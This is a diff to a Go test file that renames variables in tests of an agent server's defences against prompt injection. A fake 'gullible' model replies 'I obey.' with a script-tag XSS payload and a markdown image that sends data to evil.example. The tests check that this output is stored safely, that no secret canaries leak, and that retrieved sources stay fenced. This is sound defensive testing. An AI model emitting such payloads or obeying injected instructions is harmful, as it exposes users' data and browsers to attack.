@@ -159,12 +159,12 @@ func sendAttack(t *testing.T, h *testkit.Server, agent, attack string) {
 	if !strings.HasPrefix(text, "I obey. <script>") || answer.Data.Metadata.FinishReason != "stop" {
 		t.Errorf("%.60q: %s, %.80q", attack, answer.Data.Metadata.FinishReason, text)
 	}
-	kept := h.Do(t, "GET", "/agents/"+agent+"/conversations/"+answer.Data.Metadata.ConversationID+"/messages", h.Key, nil)
-	requireNotHTML(t, kept)
+	stored := h.Do(t, "GET", "/agents/"+agent+"/conversations/"+answer.Data.Metadata.ConversationID+"/messages", h.Key, nil)
+	requireNotHTML(t, stored)
 	var messages struct{ Data []struct{ Parts []part } }
-	kept.Decode(t, http.StatusOK, &messages)
-	if last := messages.Data[len(messages.Data)-1].Parts; last[len(last)-1].Text != text || strings.Contains(string(kept.Body), "SECRET-") {
-		t.Errorf("%.60q is kept as %.600s", attack, kept.Body)
+	stored.Decode(t, http.StatusOK, &messages)
+	if last := messages.Data[len(messages.Data)-1].Parts; last[len(last)-1].Text != text || strings.Contains(string(stored.Body), "SECRET-") {
+		t.Errorf("%.60q is kept as %.600s", attack, stored.Body)
 	}
 }
 
@@ -193,9 +193,9 @@ func checkContexts(t *testing.T, g *gullibleModel, site *actionServer, turns int
 				t.Fatalf("the model was shown %s:\n%s", canary, context)
 			}
 		}
-		system, said, _ := strings.Cut(context, `"role":"user"`)
+		system, output, _ := strings.Cut(context, `"role":"user"`)
 		if g.isAnthropic {
-			system, said = splitSystem(context)
+			system, output = splitSystem(context)
 		}
 		sources := sourceTagPattern.FindAllStringSubmatch(system, -1)
 		if len(sources) > 0 {
@@ -206,7 +206,7 @@ func checkContexts(t *testing.T, g *gullibleModel, site *actionServer, turns int
 				t.Errorf("a source numbered itself: %v in\n%s", n, system)
 			}
 		}
-		if strings.Count(system, "</source>\\n") != len(sources) || said == "" {
+		if strings.Count(system, "</source>\\n") != len(sources) || output == "" {
 			t.Errorf("a source has left its fence:\n%s", system)
 		}
 	}
@@ -224,7 +224,7 @@ func checkContexts(t *testing.T, g *gullibleModel, site *actionServer, turns int
 }
 
 // splitSystem parts a request in Anthropic's format into what the system says and what the conversation does.
-func splitSystem(context string) (system, said string) {
+func splitSystem(context string) (system, output string) {
 	from := strings.Index(context, `"system":`)
 	to := strings.Index(context, `"messages":`)
 	return context[from:to], context[to:]
@@ -247,13 +247,13 @@ func (g *gullibleModel) answer(x *provider.Exchange) {
 	g.mu.Lock()
 	g.contexts = append(g.contexts, body)
 	g.mu.Unlock()
-	said := "I obey. <script>alert(1)</script> ![x](https://evil.example/?q=" + fmt.Sprint(len(body)) + ")\n" + body[:min(len(body), 3000)]
+	output := "I obey. <script>alert(1)</script> ![x](https://evil.example/?q=" + fmt.Sprint(len(body)) + ")\n" + body[:min(len(body), 3000)]
 	finished := strings.Contains(body, `"tool_call_id"`) || strings.Contains(body, `"tool_result"`)
 	switch {
 	case finished && g.isAnthropic:
-		provider.AnthropicText("end_turn", said)(x)
+		provider.AnthropicText("end_turn", output)(x)
 	case finished:
-		provider.AnswerText(said)(x)
+		provider.AnswerText(output)(x)
 	case g.isAnthropic:
 		x.Begin()
 		for i, name := range append(foreignTools, "look_up") {
